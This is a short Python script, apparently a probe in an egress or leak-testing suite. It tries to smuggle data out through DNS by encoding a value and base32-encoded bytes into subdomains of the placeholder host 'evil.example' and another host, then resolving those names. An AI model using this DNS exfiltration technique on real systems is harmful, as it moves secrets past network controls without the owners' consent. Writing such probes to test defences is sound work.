# tries: the value as a name, to be resolved
# ends: nothing
from lib import *

for name in (VALUE[:40].replace("_", "-").lower() + ".evil.example", base64.b32encode(B).decode().strip("=").lower()[:60] + "." + HOST):
    attempt("a name", lambda: socket.getaddrinfo(name, 443))
